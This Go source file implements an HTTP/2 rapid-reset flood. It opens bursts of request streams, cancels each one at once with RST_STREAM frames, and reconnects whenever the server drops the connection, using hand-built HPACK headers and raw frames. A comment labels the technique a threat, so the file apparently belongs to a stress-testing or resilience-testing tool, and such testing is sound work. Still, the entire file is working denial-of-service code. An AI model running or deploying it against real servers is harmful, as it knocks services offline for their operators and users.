package storm

import (
	"context"
	"encoding/binary"
	"io"
	"math/rand/v2"
	"sync"
)

// flood opens streams of HTTP/2 that poll and resets them at once, as fast as a connection takes them (threat: HTTP/2, reset floods). Where the server has
// had enough and closes the connection it goes on over another. It returns how many streams it has reset, and on how many connections.
func (c *crowd) flood(n int, rnd *rand.Rand) (streams, conns int) {
	var drains sync.WaitGroup
	defer drains.Wait()
	for streams < n {
		conn, err := c.on.dial(context.Background(), false)
		if err != nil {
			return streams, conns
		}
		conns++
		drains.Go(func() { io.Copy(io.Discard, conn) })
		_, err = io.WriteString(conn, http2Preface)
		for id := uint32(1); err == nil && streams < n; {
			together := 1 + rnd.IntN(40) // so many are opened, and then reset
			var heads, resets []byte
			for range together {
				heads = appendFrame(heads, 1, 0x5, id, pollHeader(c.path)) // HEADERS, the end of the stream and of the header
				resets = appendFrame(resets, 3, 0, id, []byte{0, 0, 0, 8}) // RST_STREAM, CANCEL
				id += 2
			}
			_, err = conn.Write(append(heads, resets...))
			streams += together
		}
		conn.Close()
	}
	return streams, conns
}

// pollHeader is the header of a poll, in HPACK (RFC 7541) without a table.
func pollHeader(path string) []byte {
	p := []byte{0x82, 0x86, 0x01, 1, 'x', 0x04, byte(len(path))} // :method GET, :scheme http, :authority x, :path
	return append(p, path...)
}

// appendFrame appends a frame of HTTP/2 (RFC 9113, 4.1).
func appendFrame(b []byte, kind, flags byte, stream uint32, payload []byte) []byte {
	n := len(payload)
	b = append(b, byte(n>>16), byte(n>>8), byte(n), kind, flags)
	b = binary.BigEndian.AppendUint32(b, stream)
	return append(b, payload...)
}
